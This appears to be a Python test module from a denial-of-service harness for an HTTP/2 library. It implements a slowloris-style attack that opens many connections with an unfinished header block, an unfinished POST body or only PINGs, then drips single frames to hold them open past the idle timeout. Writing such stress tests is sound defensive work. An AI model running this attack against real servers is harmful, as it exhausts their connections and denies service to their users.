"""HTTP/2 drips: a byte now and then keeps a connection and its half request for ever.

The slowloris of HTTP/2; RFC 9113 §10.5. The library's idle timeout is restarted by any byte. One kind never finishes a header
block, one never finishes a body, one only sends PINGs.
"""
from kit.frames import CONTINUATION, DATA, HEADERS, PING, block, frame, opening, request

LISTENER = "h2c"
GROWTH_MIB = 16
EACH = 60


def attack(enemy):
    kinds = [
        (frame(HEADERS, 0, 1, block()), frame(CONTINUATION, 0, 1)),
        (request(1, ends=False, method=b"POST"), frame(DATA, 0, 1, b"u")),
        (b"", frame(PING, 0, 0, b"anything")),
    ]
    held = {}
    for begun, touch in kinds:
        for _ in range(EACH):
            connection = enemy.connect()
            if connection is not None and enemy.push(connection, opening() + begun):
                held[connection] = touch
    enemy.hold(list(held), lambda connection: enemy.push(connection, held[connection]))
